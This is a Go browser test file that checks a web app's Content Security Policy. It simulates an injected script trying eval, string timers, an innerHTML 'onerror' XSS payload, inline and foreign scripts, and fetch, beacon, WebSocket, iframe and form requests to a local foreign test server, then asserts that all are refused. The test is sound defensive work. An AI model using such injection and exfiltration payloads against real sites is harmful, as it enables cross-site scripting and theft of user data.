package browser_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"sync/atomic"
	"testing"

	"github.com/stretchr/testify/require"
)

// TestThePolicyKeepsOutWhatIsNotThePages plays a script that has got into the page, and asks for what a thief would.
func TestThePolicyKeepsOutWhatIsNotThePages(t *testing.T) {
	t.Parallel()
	h := newHouse(t, "orders")
	var asked atomic.Int32
	foreign := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		asked.Add(1)
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	t.Cleanup(foreign.Close)
	tb := newPerson(t).SignedIn(t, h, adminToken, "")
	tb.Sees("main", "public.orders")
	tb.Expects(`Content Security Policy|Trusted Type|TrustedScript|TrustedHTML|network: .*(csp|CSP)|a request to another host: ` + foreign.URL + `|Framing`)
	for what, script := range map[string]string{
		"eval":             `(0, eval)("1"); resolve("it ran")`,
		"a function":       `new Function("return 1")(); resolve("it ran")`,
		"a timer's text":   `setTimeout("hacked = 1"); resolve("it ran")`,
		"markup":           `document.body.innerHTML = "<img src=x onerror=hacked=1>"; resolve("it ran")`,
		"an inline script": `const s = document.createElement("script"); s.text = "hacked = 1"; document.body.append(s); resolve("it ran")`,
		"a foreign script": fmt.Sprintf(`const s = document.createElement("script"); s.src = "%s/x.js"; document.body.append(s); resolve("no error")`, foreign.URL),
		"a script of text": `const s = document.createElement("script"); s.append("hacked = 1"); document.body.append(s); resolve("no error")`,
		"a foreign fetch":  fmt.Sprintf(`await fetch("%s/fetch"); resolve("it ran")`, foreign.URL),
		"a beacon":         fmt.Sprintf(`navigator.sendBeacon("%s/beacon", "x"); setTimeout(() => resolve("no error"), 0)`, foreign.URL),
		"a picture":        fmt.Sprintf(`const i = new Image(); i.onload = () => resolve("it ran"); i.onerror = () => resolve("refused"); i.src = "%s/i.png"`, foreign.URL),
		"a frame":          fmt.Sprintf(`const f = document.createElement("iframe"); f.src = "%s/frame"; document.body.append(f); setTimeout(() => resolve("no error"), 0)`, foreign.URL),
		"a style":          fmt.Sprintf(`const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "%s/x.css"; l.onload = () => resolve("it ran"); l.onerror = () => resolve("refused"); document.head.append(l)`, foreign.URL),
		"a socket":         fmt.Sprintf(`try { const w = new WebSocket("ws%s/ws"); w.onopen = () => resolve("it ran"); w.onerror = () => resolve("refused") } catch { resolve("refused") }`, foreign.URL[len("http"):]),
		"a worker":         `new Worker(URL.createObjectURL(new Blob(["1"]))); resolve("it ran")`,
		"a form":           fmt.Sprintf(`const f = document.createElement("form"); f.action = "%s/form"; f.method = "post"; document.body.append(f); f.submit(); setTimeout(() => resolve("no error"), 0)`, foreign.URL),
	} {
		// Behind a timer, since what a debugger evaluates is free of the policy.
		got := eval[string](tb, fmt.Sprintf(`new Promise((resolve) => setTimeout(async () => { try { %s } catch { resolve("refused") } }))`, script))
		require.NotEqual(t, "it ran", got, what)
	}
	require.False(t, eval[bool](tb, `"hacked" in window`))
	require.Zero(t, asked.Load(), "requests that came through")
	tb.Sees("main", "public.orders")
}
